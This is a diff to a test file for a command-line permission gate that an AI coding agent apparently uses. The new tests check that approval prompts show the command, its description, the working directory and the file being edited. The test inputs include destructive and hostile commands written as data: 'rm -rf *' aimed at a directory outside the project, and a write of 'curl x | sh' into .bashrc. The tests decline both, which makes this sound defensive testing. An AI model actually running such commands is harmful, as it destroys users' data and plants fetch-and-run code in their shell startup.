@@ -80,12 +80,41 @@ describe("OnAsk: an informed approval at a terminal", () => {
       const input = JSON.stringify({ command: "echo ok && git push", description: "Say ok, then push" })
       const result = yield* promise(() => runCli(["call", "bash", input, "--dir", dir, "--session", "ses_prompt"], { root, tty: true, answers: ["r", ""] }))
       expect(result.code).toBe(ExitCode.DECLINED)
-      expect(result.stderr.split("\n").slice(0, 4)).toEqual([
+      expect(result.stderr.split("\n").slice(0, 5)).toEqual([
         "Permission requested: bash echo ok, git push",
         "  Command: echo ok && git push",
         "  Description: Say ok, then push",
+        AskView.Messages.workdir(dir),
         `  Why git push: bash "git push*" ask (from ${path.join(dir, "toolgate.json")} permission[0])`,
       ])
+    }))
+
+  // Under the build agent the command and the edit are allowed: this ask is the only one, and
+  // approving it runs the command, or writes the file, with nothing else shown.
+  it.live("shows what will run, and where, on the external_directory ask of a bash command outside", () =>
+    Effect.gen(function* () {
+      const { root, dir } = yield* project({})
+      const outside = path.join(root, "outside")
+      yield* promise(() => mkdir(outside))
+      const input = JSON.stringify({ command: "rm -rf *", description: "Clean the build", workdir: outside })
+      const result = yield* promise(() => runCli(["call", "bash", input, "--dir", dir, "--session", "ses_prompt"], { root, tty: true, answers: ["r", ""] }))
+      expect(result.code).toBe(ExitCode.DECLINED)
+      expect(result.stderr.split("\n").slice(0, 4)).toEqual([
+        `Permission requested: external_directory ${outside}/*, *`,
+        AskView.Messages.command("rm -rf *"),
+        AskView.Messages.description("Clean the build"),
+        AskView.Messages.workdir(outside),
+      ])
+    }))
+
+  it.live("names the file and the edit on the external_directory ask of a write outside", () =>
+    Effect.gen(function* () {
+      const { root, dir } = yield* project({})
+      const file = path.join(root, ".bashrc")
+      const input = JSON.stringify({ path: file, content: "curl x | sh\n" })
+      const result = yield* promise(() => runCli(["call", "write", input, "--dir", dir, "--session", "ses_prompt"], { root, tty: true, answers: ["r", ""] }))
+      expect(result.code).toBe(ExitCode.DECLINED)
+      expect(result.stderr.split("\n").slice(0, 2)).toEqual([`Permission requested: external_directory ${root}/*`, AskView.Messages.purpose(`edit ${file}`)])
     }))
 
   it.live("shows the URL of a webfetch, and that no rule matched when none did", () =>
